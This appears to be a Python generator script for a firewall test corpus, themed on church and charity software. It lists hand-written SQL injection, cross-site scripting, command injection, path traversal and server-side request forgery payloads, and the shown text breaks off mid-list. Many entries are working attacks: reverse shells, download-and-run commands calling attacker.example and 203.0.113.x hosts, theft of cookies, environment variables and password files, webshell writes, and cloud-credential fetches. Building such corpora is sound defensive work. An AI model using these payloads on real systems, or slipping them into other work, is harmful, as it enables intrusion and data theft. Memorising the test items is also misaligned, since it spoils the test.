"""Held-out attack corpus for the WAF, themed on a charity's, church's or
volunteer organisation's systems.

Each value is a payload that works against a vulnerable application which puts
the value where its class says: concatenated into SQL (donor search, fund codes,
hymn numbers), into HTML without escaping (campaign pages, donor wall, rota
notes), into a shell line (receipt PDFs, label printing, banner resizing, sermon
audio), into a file path (newsletter attachments, receipts, zip imports), into a
URL the server fetches (banner import, podcast feed, webhooks, HTML-to-PDF),
into a server-side template / expression / deserialiser / XML parser / CSV
export, into a MongoDB query, into a header / mail / log line, or into an LDAP
filter / XPath expression.

Class = "<context>-<technique>[+<encoding>]"; "plain-..." classes carry the bare
technique with no domain wrapping.  Every value was written by hand for this
corpus (or built by a small template over hand-written pools below); nothing is
copied from a public payload list.  Attacker infrastructure is limited to
attacker.example, *.attacker.example, 203.0.113.0/24 and 198.51.100.0/24; all
keys and secrets are fake.

Run:  python3 make_attacks.py   ->  writes attacks.jsonl next to this file.
Output is byte-identical on every run (fixed seed, lists only, no set order).
"""

import json
import random
from pathlib import Path

SEED = 5802
PREFIX = "ha58"

# ---------------------------------------------------------------------------
# sqli: donor search, fund codes, gift-aid refs, hymn numbers, rota sort order
# ---------------------------------------------------------------------------
SQLI = [
    ("str-tautology", "Harvest Appeal' OR 'x'='x"),
    ("str-union", "Easter Appeal' UNION SELECT donor_id, email, postcode FROM donors-- "),
    ("like-union", "Smith%' UNION ALL SELECT NULL, username, password_hash, NULL FROM staff_users-- -"),
    ("num-boolean", "42 AND (SELECT COUNT(*) FROM trustees) > 0"),
    ("num-time", "17 AND SLEEP(6)"),
    ("str-stacked-time", "Ps 23'; SELECT pg_sleep(7)--"),
    ("str-stacked-time", "St Mark'; WAITFOR DELAY '00:00:08'--"),
    ("str-error", "Bake Sale' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version)))-- "),
    ("str-error", "Retreat' AND UPDATEXML(1, CONCAT(0x2e, (SELECT user())), 1)#"),
    ("str-error", "GA-2024' AND 1=CAST((SELECT string_agg(email, ',') FROM donors) AS int)--"),
    ("str-error", "Hymn 545' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.tables))--"),
    ("str-stacked", "Tuesday rota'; UPDATE volunteers SET role='admin' WHERE email='mole@attacker.example';--"),
    ("str-stacked", "Jn 3:16'; INSERT INTO staff_users (email, role) VALUES ('x@attacker.example', 'superuser');--"),
    ("num-union", "0 UNION SELECT 1, card_last4, expiry, donor_name FROM payment_methods"),
    ("orderby-boolean", "(CASE WHEN (SELECT SUBSTR(password_hash,1,1) FROM staff_users WHERE id=1)='$' THEN surname ELSE postcode END)"),
    ("orderby-time", "surname, (SELECT SLEEP(5))"),
    ("like-boolean", "Okafor%' AND (SELECT ASCII(SUBSTRING(api_key,1,1)) FROM settings LIMIT 1) > 77 AND '%'='"),
    ("str-comment", "treasurer@stmarys-parish.example'-- "),
    ("str-comment", "vicar@stmarys-parish.example'#"),
    ("dq-union", "Messy Church\" UNION SELECT table_name, NULL FROM information_schema.tables-- -"),
    ("paren-tautology", "Youth') OR ('a'='a"),
    ("insert-subquery", "Thanks for the soup!', (SELECT password_hash FROM staff_users LIMIT 1))-- "),
    ("str-oob", "Lent'; EXEC master..xp_dirtree '\\\\exfil.attacker.example\\share';--"),
    ("str-file-read", "Advent' UNION SELECT LOAD_FILE('/etc/passwd'), 2, 3-- -"),
    ("str-file-write", "Harvest' UNION SELECT '<?php system($_GET[\"c\"]); ?>', 2 INTO OUTFILE '/var/www/html/uploads/hymn.php'-- "),
    ("str-time", "Choir' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a', 9)--"),
    ("str-union", "Food bank' UNION SELECT name, sql FROM sqlite_master--"),
    ("str-boolean", "Warm Space' AND (SELECT substr(sql,1,1) FROM sqlite_master LIMIT 1) = 'C' --"),
    ("str-stacked-rce", "Ps 121'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.40/s.sh | sh';--"),
    ("str-boolean", "Ruth' AND (SELECT COUNT(*) FROM staff_users WHERE role='admin') > 2 AND 'q'='q"),
    ("num-stacked-time", "5; SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(6) ELSE pg_sleep(0) END--"),
    ("num-error", "3 AND ROW(1,1) > (SELECT COUNT(*), CONCAT((SELECT database()), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x)"),
    ("str-heavy-query", "Evensong' AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C) > 0-- "),
    ("str-boolean", "admin' AND password_hash LIKE 'a%"),
    ("str-error", "Candlemas' HAVING 1=1--"),
    ("str-error", "Candlemas' GROUP BY donors.id HAVING 1=1--"),
    ("str-column-probe", "Advent' ORDER BY 7-- "),
    ("str-union", "Advent' UNION SELECT NULL,NULL,NULL,NULL-- -"),
    ("json-str-tautology", "{\"fund\": \"GEN' OR '1'='1\", \"year\": 2024}"),
    ("str-stacked-rce", "Retreat'; EXEC xp_cmdshell 'powershell -c \"iwr http://203.0.113.9/a.ps1 | iex\"';--"),
    ("str-stacked-config", "Quiet Day'; EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;--"),
    ("str-union+comment-spaces", "Harvest'/**/UNION/**/SELECT/**/email,/**/postcode/**/FROM/**/donors--/**/"),
    ("str-union+case", "Lent' uNiOn SeLeCt iban, sort_code FrOm bank_details-- "),
    ("str-union+url", "Lent%27%20UNION%20SELECT%20email%2C%20phone%20FROM%20donors--%20"),
    ("str-tautology+double-url", "Easter%2527%2520OR%25201%253D1--%2520"),
    ("str-union+versioned-comment", "Harvest' /*!50000UNION*/ /*!50000SELECT*/ user(), version()-- "),
    ("str-union+newlines", "Advent'\nUNION\nSELECT\nemail,\npostcode\nFROM\ndonors--\n"),
    ("num-union", "545 UNION SELECT title, licence_key FROM ccli_settings"),
    ("str-boolean", "GAD-00412' AND SUBSTRING((SELECT password_hash FROM staff_users WHERE email LIKE 'admin%'),1,1)='$"),
    ("str-tautology", "SW1A 1AA' OR postcode LIKE '%"),
    ("in-tautology", "3) OR (1=1"),
    ("limit-error", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("str-boolean", "Harvest' AND 1=(CASE WHEN (SELECT COUNT(*) FROM gift_aid_claims) > 100 THEN 1 ELSE 0 END)-- "),
    ("str-time", "Carol Service' AND BENCHMARK(20000000, SHA1('hymn'))-- "),
    ("str-time", "Lent' AND IF(ASCII(SUBSTRING(DATABASE(),1,1))>100, SLEEP(4), 0)-- -"),
    ("str-boolean", "Rev. J. Okafor' OR EXISTS(SELECT 1 FROM staff_users WHERE role='admin')-- "),
    ("str-time", "Compline' AND 1=LIKE('ABCDEFG', UPPER(HEX(RANDOMBLOB(300000000/2))))-- "),
    ("str-union", "2024-12-24' UNION SELECT NULL, string_agg(email||':'||phone, ';') FROM volunteers-- "),
    ("paren-stacked", "Margaret'); DELETE FROM pledges WHERE ('1'='1"),
    ("str-tautology+html-entities", "Advent&#39; OR &#39;1&#39;=&#39;1"),
    ("json-str-tautology+unicode-escape", "{\"surname\": \"Okafor\\u0027 OR \\u00271\\u0027=\\u00271\"}"),
    ("str-union", "Zupa dla bezdomnych' UNION SELECT email, telefon FROM wolontariusze-- -"),
    ("plain-tautology", "' OR 1=1 -- "),
    ("plain-time", "1' AND SLEEP(5) AND '1'='1"),
    ("plain-union", "' UNION SELECT username, password FROM users--"),
    ("plain-stacked", "1; DROP TABLE donors"),
    ("plain-comment", "admin' --"),
    ("plain-error", "' AND 1=CONVERT(int, @@version)--"),
    ("plain-union", "1 AND 1=2 UNION SELECT NULL, NULL--"),
]

SQLI_LEADS = ["Harvest Appeal", "Gift Aid 2023-24", "Ps 121", "St Brigid", "Youth Camp", "FOODBANK-NORTH",
              "Okafor", "LS6 2AB", "Carol Service", "GEN/UNR"]
SQLI_TAILS = [
    ("str-tautology", "' OR 'a'='a"),
    ("str-time", "' AND SLEEP(5)-- -"),
    ("str-union", "' UNION SELECT email, postcode FROM donors-- -"),
    ("str-stacked-time", "'; SELECT pg_sleep(6)--"),
    ("str-boolean", "' AND (SELECT COUNT(*) FROM staff_users) > 0-- "),
    ("str-error", "' AND EXTRACTVALUE(1, CONCAT(0x5c, (SELECT password_hash FROM staff_users LIMIT 1)))-- "),
]


def tpl_sqli(rng):
    cls, tail = rng.choice(SQLI_TAILS)
    return cls, rng.choice(SQLI_LEADS) + tail


# ---------------------------------------------------------------------------
# xss: campaign pages, donor wall, volunteer comments, newsletter markdown
# ---------------------------------------------------------------------------
XSS = [
    ("html-script", "Thank you for the lovely carol service! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("html-img-onerror", "Proud to support the food bank 🙏 <img src=x onerror=\"new Image().src='//attacker.example/l?c='+encodeURIComponent(document.cookie)\">"),
    ("html-svg-onload", "In memory of Grandad Joe <svg/onload=location='https://attacker.example/?'+document.cookie>"),
    ("html-details-ontoggle", "Bake sale was brilliant <details open ontoggle=alert(origin)>"),
    ("html-iframe-srcdoc", "Gallery: <iframe srcdoc=\"&lt;script&gt;parent.alert(parent.document.cookie)&lt;/script&gt;\"></iframe>"),
    ("html-video-source-onerror", "Sermon video below <video><source onerror=\"alert(document.domain)\"></video>"),
    ("html-audio-onerror+base64", "Sermon audio: <audio src=/missing.mp3 onerror=eval(atob('ZmV0Y2goJ2h0dHBzOi8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))>"),
    ("html-input-autofocus", "Volunteer T-shirt size: M <input autofocus onfocus=alert(document.cookie)>"),
    ("html-marquee-onstart", "<marquee onstart=alert(document.domain)>Harvest Supper tickets on sale now!</marquee>"),
    ("html-button-formaction", "<form><button formaction=\"javascript:alert(document.cookie)\">Give now</button></form>"),
    ("html-a-jsurl", "<a href=\"javascript:fetch('//attacker.example/k?'+localStorage.token)\">Download the rota (PDF)</a>"),
    ("html-meta-refresh", "Service moved online <meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/donate\">"),
    ("html-base-href", "Newsletter footer <base href=\"https://attacker.example/\">"),
    ("attr-breakout-event", "Choir photo\" onmouseover=\"alert(document.cookie)"),
    ("attr-breakout-script", "St Anne's Hall\"><script src=https://attacker.example/x.js></script>"),
    ("attr-sq-breakout", "Easter' autofocus onfocus='alert(document.domain)"),
    ("attr-unquoted-event", "banner.jpg onerror=alert(document.domain)"),
    ("attr-href-breakout-autofocus", "https://www.stmarys-parish.example/give\" autofocus tabindex=0 onfocus=\"alert(document.cookie)"),
    ("href-jsurl+case", "JavaScript:/*JustGiving*/fetch('//attacker.example/'+document.cookie)"),
    ("href-jsurl+html-entities", "jav&#x61;script:alert(document.cookie)"),
    ("href-jsurl+tab", "java\tscript:alert(document.domain)"),
    ("redirect-jsurl", "javascript:alert(document.domain)//thank-you"),
    ("js-str-breakout", "Advent'; fetch('https://attacker.example/?c='+document.cookie); //"),
    ("js-str-breakout-dq", "Roof Appeal\"-alert(document.cookie)-\""),
    ("js-script-close", "Harvest</script><script>alert(document.domain)</script>"),
    ("js-str-backslash", "Lent Appeal\\\";alert(document.cookie);//"),
    ("js-template-interpolation", "${fetch('//attacker.example/t?'+document.cookie)}"),
    ("markdown-jsurl", "[Read the Vicar's letter](javascript:alert(document.cookie))"),
    ("markdown-img-attr", "![harvest photo](x\" onerror=\"alert(document.domain))"),
    ("markdown-raw-html", "**Bring a plate!** <img src=x onerror=alert(document.cookie)>"),
    ("rcdata-textarea-breakout", "Notes for the vestry</textarea><script>alert(document.cookie)</script>"),
    ("rcdata-title-breakout", "Carol Service 2024</title><svg onload=alert(document.domain)>"),
    ("comment-breakout", "--><img src=x onerror=alert(document.cookie)><!--"),
    ("css-style-breakout", "#d4af37}</style><script>alert(document.cookie)</script>"),
    ("json-script-breakout", "{\"campaign\":\"Winter Night Shelter</script><script>alert(document.domain)</script>\"}"),
    ("svg-file-script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script><text x=\"10\" y=\"20\">Harvest logo</text></svg>"),
    ("csti-angular", "Thank you {{constructor.constructor('alert(document.cookie)')()}}"),
    ("csti-vue", "Carol service 🎄 {{_c.constructor('alert(document.domain)')()}}"),
    ("html-script+url", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("html-svg-onload+double-url", "Harvest%2520supper%253Csvg%2520onload%253Dalert(1)%253E"),
    ("html-script+case", "Great day! <ScRiPt>alert(document.domain)</sCrIpT>"),
    ("html-img-onerror+html-entities", "Ceilidh photos <img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#100;&#111;&#99;&#117;&#109;&#101;&#110;&#116;&#46;&#99;&#111;&#111;&#107;&#105;&#101;&#41;\">"),
    ("html-img-onerror+unicode-escape", "Messy Church pics <img src=x onerror=\"\\u0061lert(document.cookie)\">"),
    ("html-svg-onload+charcode", "<svg onload=eval(String.fromCharCode(97,108,101,114,116,40,100,111,99,117,109,101,110,116,46,99,111,111,107,105,101,41))>"),
    ("html-img-backtick-call", "Quiz night <img src=x onerror=alert`1`>"),
    ("html-img-slash-separators", "Photo from the ceilidh <img/src/onerror=alert(document.cookie)>"),
    ("html-img-newlines", "Lovely <img\nsrc=x\nonerror=alert(document.domain)\n> day"),
    ("html-animationstart", "<style>@keyframes k{}</style><p style=\"animation-name:k\" onanimationstart=\"alert(document.cookie)\">Bring your own mug</p>"),
    ("html-svg-animate-onbegin", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s></svg>"),
    ("html-select-autofocus", "Choose a slot <select autofocus onfocus=alert(document.cookie)><option>Sat</option></select>"),
    ("html-iframe-jsurl", "Map to the hall: <iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("html-form-phishing", "Session expired <form action=https://attacker.example/login method=post><input name=email placeholder=\"Email\"><input name=password type=password placeholder=\"Donor portal password\"><button>Continue</button></form>"),
    ("event-handler-str+html-entities", "Harvest&#39;);alert(document.cookie);//"),
    ("html-body-attr-merge", "Newsletter <body onpageshow=alert(document.cookie)>"),
    ("html-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(document.cookie)>\"></noscript>"),
    ("html-textarea-onfocus", "Prayer wall <textarea autofocus onfocus=\"fetch('//attacker.example/p',{method:'POST',body:document.cookie})\"></textarea>"),
    ("html-img-onerror", "Дякуємо за теплий прийом! <img src=x onerror=alert(document.cookie)>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-attr-breakout", "\"><img src=x onerror=alert(1)>"),
    ("plain-jsurl", "javascript:alert(document.cookie)"),
    ("plain-svg", "<svg onload=alert(1)>"),
    ("plain-js-str", "'-alert(1)-'"),
    ("plain-body", "<body onload=alert(1)>"),
    ("plain-iframe", "<iframe src=javascript:alert(1)>"),
]

XSS_LEADS = ["Lovely service today!", "Gift in memory of Nan ❤", "Can bring 2 trays of flapjack.",
             "Thanks to the Tuesday team", "Ceilidh was ace", "Prayer for the Okafor family",
             "Harvest 2024 photos:", "Rota swap sorted 👍"]
XSS_PAYLOADS = [
    ("html-img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("html-svg-onload", "<svg onload=fetch('//attacker.example/s?'+document.cookie)>"),
    ("html-script-src", "<script src=https://attacker.example/w.js></script>"),
    ("html-details-ontoggle", "<details open ontoggle=alert(document.domain)>"),
    ("html-iframe-jsurl", "<iframe src=javascript:alert(document.cookie)></iframe>"),
]


def tpl_xss(rng):
    cls, p = rng.choice(XSS_PAYLOADS)
    return cls, rng.choice(XSS_LEADS) + " " + p


# ---------------------------------------------------------------------------
# cmdi: receipt PDFs, label printing, banner resizing, sermon audio, backups
# ---------------------------------------------------------------------------
CMDI = [
    ("shell-arg-semicolon", "harvest-banner.jpg; curl -s https://attacker.example/i.sh | sh"),
    ("shell-arg-pipe", "labels-A4 | nc 203.0.113.15 4444 -e /bin/sh"),
    ("shell-arg-and", "Office_Laser && wget -qO- http://198.51.100.23/p | bash"),
    ("shell-arg-or", "Vestry_HP || cat /etc/shadow | curl --data-binary @- https://attacker.example/up"),
    ("shell-arg-backtick", "sermon-2024-03-10-`whoami`.mp3"),
    ("shell-dq-subst", "Christmas Eve $(curl -s attacker.example/x | sh).pdf"),
    ("shell-sq-breakout", "Ps 23' ; cat /etc/passwd ; echo '"),
    ("shell-arg-newline", "receipts-march\ncurl http://203.0.113.7/r.sh -o /tmp/r.sh\nsh /tmp/r.sh"),
    ("shell-host-semicolon", "stream.stmarys-parish.example; bash -c 'bash -i >& /dev/tcp/203.0.113.50/9001 0>&1'"),
    ("shell-host-subst-dns", "$(whoami).attacker.example"),
    ("shell-arg-ifs", "rota.csv;cat${IFS}/etc/passwd"),
    ("shell-arg-brace-expansion", "minutes.pdf;{wget,-qO-,http://203.0.113.8/s}|sh"),
    ("shell-arg-semicolon+ansi-c-hex", "rota.csv;$'\\x63\\x61\\x74' /etc/hostname"),
    ("shell-arg-quote-split", "gift-aid.xlsx; w'h'o'am'i"),
    ("shell-arg-backslash-split", "hymns.txt; c\\at /e\\tc/pa\\sswd"),
    ("shell-arg-glob", "banner.png; /???/c?t /e??/p?ss??"),
    ("shell-arg-var-substring", "newsletter.pdf;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("cmd-amp", "Gift Aid Q1 & type C:\\Windows\\win.ini"),
    ("cmd-pipe-powershell", "labels | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.12/a.ps1')\""),
    ("cmd-amp+caret", "Receipts_2024 & w^h^o^a^m^i"),
    ("cmd-amp-env-substring", "Minutes&net%CommonProgramFiles:~10,1%user"),
    ("pwsh-sq-breakout", "Advent'; iwr http://203.0.113.30/p.exe -OutFile $env:TEMP\\p.exe; & $env:TEMP\\p.exe; '"),
    ("argv-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/uploads/rota.sh"),
    ("argv-ssh-proxycommand", "-oProxyCommand=curl${IFS}-s${IFS}attacker.example/x|sh"),
    ("argv-sendmail", "newsletter@stmarys-parish.example -OQueueDirectory=/tmp -X/var/www/html/uploads/log.php"),
    ("argv-curl-output", "-o /var/www/html/uploads/shell.php https://attacker.example/shell.txt"),
    ("argv-zip-unzip-command", "minutes.docx -T -TT 'sh -c \"curl -s https://attacker.example/z|sh\"'"),
    ("argv-rsync-e", "-e 'sh -c \"id>/tmp/pwn\"' backup@198.51.100.4:/x"),
    ("argv-git-upload-pack", "--upload-pack=curl -s attacker.example/g|sh"),
    ("imagemagick-pipe", "|curl -s https://attacker.example/m|sh"),
    ("perl-open-pipe", "curl -s attacker.example/p.pl | perl |"),
    ("shell-dq-breakout", "Carol Service\"; curl https://attacker.example/$(hostname) #"),
    ("shell-arg-webshell", "banner.png; echo '<?php system($_GET[0]); ?>' > /var/www/html/img/h.php"),
    ("shell-arg-time", "harvest.jpg; sleep 12 #"),
    ("cmd-amp-time", "Rota_Jan & ping -n 11 127.0.0.1 &"),
    ("shell-arg-dns-exfil", "photo.jpg; nslookup $(whoami).c7.attacker.example"),
    ("shell-arg-dns-exfil", "logo.svg; dig +short $(hostname | base32 | tr -d =).attacker.example"),
    ("shell-arg-env-exfil", "agenda.docx; env | curl -X POST --data-binary @- https://attacker.example/env"),
    ("shell-arg-cron", "rota.pdf; (crontab -l; echo '*/5 * * * * curl -s 203.0.113.5/b|sh') | crontab -"),
    ("shell-arg-ssh-key", "minutes.pdf; mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAFAKEKEYFORCORPUSONLY attacker' >> ~/.ssh/authorized_keys"),
    ("shell-arg-python-revshell", "podcast.mp3; python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.44\",8443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("shell-arg-mkfifo", "Easter.jpg; rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.77 1234 > /tmp/f"),
    ("shell-arg-semicolon+base64", "hymn-sheet.pdf; echo Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUvcyB8IHNo | base64 -d | sh"),
    ("shell-arg-semicolon+url", "banner.png%3B%20curl%20attacker.example%2Fb%7Csh"),
    ("shell-arg-semicolon+double-url", "rota.pdf%253Bid%253Buname%2520-a"),
    ("shell-arg-newline+url", "receipt-2291%0Awget%20http://203.0.113.61/x%20-O%20/tmp/x"),
    ("shell-arg-ifs", "Ps23.mp3;curl${IFS}-s${IFS}attacker.example/i|sh"),
    ("shell-arg-dollar-at", "bulletin.pdf;wh$@oami"),
    ("shell-arg-tab", "notices.txt;cat\t/etc/passwd"),
    ("cmd-for-dns-exfil", "Labels & for /f %i in ('whoami') do nslookup %i.attacker.example"),
    ("cmd-amp+base64", "Receipts & powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQAvAHAALgBwAHMAMQAgAHwAIABpAGUAeAA="),
    ("cmd-or-certutil", "Gift_Aid_2024 || certutil -urlcache -split -f http://203.0.113.90/p.exe %TEMP%\\p.exe && %TEMP%\\p.exe"),
    ("shell-arg-awk", "donors.csv; awk 'BEGIN{system(\"id\")}'"),
    ("shell-sq-subst", "Harvest Supper'$(id)'"),
    ("shell-dq-backtick", "Advent Carols `curl -s attacker.example/a|sh`"),
    ("shell-arg-process-subst", "rota.csv; bash <(curl -s https://attacker.example/r)"),
    ("shell-arg-exfil-webroot", "minutes.txt; cp /etc/passwd /var/www/html/uploads/p.txt"),
    ("shell-arg-semicolon", "sermón-domingo.mp3; wget -qO- http://203.0.113.71/k | sh"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| whoami"),
    ("plain-subst", "$(cat /etc/passwd)"),
    ("plain-backtick", "`id`"),
    ("plain-and", "&& uname -a"),
    ("plain-time", "; sleep 10"),
    ("plain-cmd", "& dir C:\\"),
]

CMDI_FILES = ["harvest-2024-banner.jpg", "rota_week12.csv", "Minutes_2024-03.docx", "sermon-ps23.mp3",
              "gift-aid-Q2.xlsx", "newsletter-advent.pdf", "labels_A4.pdf", "carol-sheet.pdf"]
CMDI_TAILS = [
    ("shell-arg-semicolon", "; curl -s https://attacker.example/c | sh"),
    ("shell-arg-subst", "$(wget -qO- http://203.0.113.33/w | sh)"),
    ("shell-arg-pipe", " | nc 198.51.100.9 443 -e /bin/sh"),
    ("shell-arg-backtick", "`id > /tmp/.x`"),
    ("shell-arg-time", " && sleep 9"),
]


def tpl_cmdi(rng):
    cls, tail = rng.choice(CMDI_TAILS)
    return cls, rng.choice(CMDI_FILES) + tail


# ---------------------------------------------------------------------------
# traversal: newsletter attachments, sermon audio, receipts, zip imports
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("path-dotdot", "newsletters/2024/../../../../../../etc/shadow"),
    ("path-dotdot", "sermons/2024/../../../../../proc/self/environ"),
    ("path-normalise", "receipts/receipt-00412.pdf/../../../../app/.env"),
    ("win-path-dotdot", "minutes\\2023\\..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("join-absolute", "/var/www/charity/config/settings.py"),
    ("join-absolute-win", "C:\\inetpub\\wwwroot\\web.config"),
    ("path-dotdot+url", "attachments/..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("path-dotdot+double-url", "..%252F..%252F..%252F..%252Fetc%252Fhosts"),
    ("path-dotdot+overlong-utf8", "photos/..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("path-dotdot+url-dots", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/group"),
    ("win-path-dotdot+iis-unicode", "..%u2215..%u2215..%u2215windows%u2215win.ini"),
    ("path-nonrecursive-strip", "....//....//....//....//etc/passwd"),
    ("path-nonrecursive-strip", "hymns/..././..././..././..././etc/passwd"),
    ("path-ext-truncation+nullbyte", "../../../etc/passwd%00.pdf"),
    ("include-php-filter", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("path-procfs", "../../../../proc/self/cwd/.env"),
    ("zip-entry-dotdot", "../../../../var/www/html/uploads/hymn-sheet.php"),
    ("zip-entry-win", "..\\..\\..\\..\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\rota.bat"),
    ("path-dotdot", "templates/../../../../../home/app/.ssh/id_rsa"),
    ("path-dotdot", "../../../root/.bash_history"),
    ("path-dotdot-double-slash", "..//..//..//..//etc//passwd"),
    ("path-dotdot+url-mixed", "/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("win-path-dotdot+url", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("url-path-semicolon", "/static/..;/..;/WEB-INF/web.xml"),
    ("url-path-alias", "/assets../config/secrets.yml"),
    ("path-dotdot+url", "photos/harvest-2024/..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("win-path-nonrecursive-strip", "....\\\\....\\\\....\\\\windows\\win.ini"),
    ("win-path-dotdot+double-url", "..%255c..%255c..%255c..%255cboot.ini"),
    ("path-prefix-check", "/var/www/charity/uploads/../../../../etc/passwd"),
    ("path-dotdot+fullwidth", "．．／．．／．．／．．／etc／passwd"),
    ("win-path-dotdot+overlong-utf8", "..%c1%9c..%c1%9c..%c1%9cwinnt/win.ini"),
    ("path-log-poison-prep", "receipts/2024/04/../../../../../../var/log/nginx/access.log"),
    ("path-dotdot", "../../.git/config"),
    ("path-dotdot", "exports/../../../../../../var/lib/postgresql/.pgpass"),
    ("win-path-ads", "..\\web.config::$DATA"),
    ("join-absolute-procfs", "/proc/self/cmdline"),
    ("path-dotdot+url", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("path-dotdot", "hymnal/../../../../../../etc/hostname"),
    ("win-path-dotdot", "Newsletters\\..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
    ("path-dotdot+url", "sermon-notes%2F..%2F..%2F..%2F..%2Fapp%2Fsettings.py"),
    ("plain-dotdot", "../../../../../../../../etc/passwd"),
    ("plain-windows", "..\\..\\..\\..\\..\\..\\windows\\win.ini"),
    ("plain-absolute", "/etc/passwd"),
    ("plain-url", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("plain-dotdot", "../../../etc/shadow"),
]

TR_PREFIXES = ["newsletters/2024/", "sermons/audio/", "receipts/", "photos/harvest/", "minutes/2023/",
               "templates/email/", "uploads/rotas/", "gift-aid/claims/"]
TR_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "app/.env", "root/.ssh/id_rsa",
              "var/www/charity/config.php", "home/app/.aws/credentials"]


def tpl_traversal(rng):
    return "path-dotdot", rng.choice(TR_PREFIXES) + "../" * rng.randint(4, 8) + rng.choice(TR_TARGETS)


# ---------------------------------------------------------------------------
# ssrf: banner import by URL, podcast feed, webhooks, HTML-to-PDF receipts
# ---------------------------------------------------------------------------
SSRF = [
    ("url-cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("url-cloud-metadata", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"),
    ("url-cloud-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("url-cloud-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("url-cloud-metadata+hex-ip", "http://0xa9fea9fe/latest/user-data"),
    ("url-cloud-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("url-cloud-metadata+ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("url-loopback-admin", "http://127.0.0.1:8080/admin/export?table=donors&format=csv"),
    ("url-loopback+short-ip", "http://127.1:9000/minio/admin/v3/info"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%2Fcrontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20-s%20attacker.example%2Fc%7Csh%5Cn%22%0D%0ASAVE%0D%0AQUIT%0D%0A"),
    ("dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("file-scheme", "file:///etc/passwd"),
    ("file-scheme-win", "file:///C:/Windows/win.ini"),
    ("url-dns-rebinding", "http://rebind-127-0-0-1.attacker.example:8000/admin"),
    ("url-userinfo-confusion", "https://cdn.stmarys-parish.example@169.254.169.254/latest/meta-data/"),
    ("url-parser-differential", "http://127.0.0.1:6379\\@images.stmarys-parish.example/banner.jpg"),
    ("url-open-redirect-chain", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("url-internal-elasticsearch", "http://localhost:9200/donors/_search?q=*&size=10000"),
    ("url-internal-k8s", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("url-internal-consul", "http://consul.service.consul:8500/v1/kv/?recurse"),
    ("url-internal-docker", "http://10.0.0.5:2375/containers/json?all=1"),
    ("url-internal-router", "http://192.168.1.1/cgi-bin/luci/admin/system"),
    ("url-loopback-ipv6", "http://[::1]:5000/internal/gift-aid/claims"),
    ("url-zero-ip", "http://0.0.0.0:8080/actuator/env"),
    ("url-loopback+enclosed-alnum", "http://①②⑦.⓪.⓪.①:8080/admin"),
    ("url-loopback+url-host", "http://%31%32%37%2e%30%2e%30%2e%31/server-status"),
    ("url-loopback+hex-octet", "http://0x7f.0.0.1/server-status"),
    ("url-loopback+octal-ip", "http://017700000001:8000/api/donors/export.csv"),
    ("netdoc-scheme", "netdoc:///etc/passwd"),
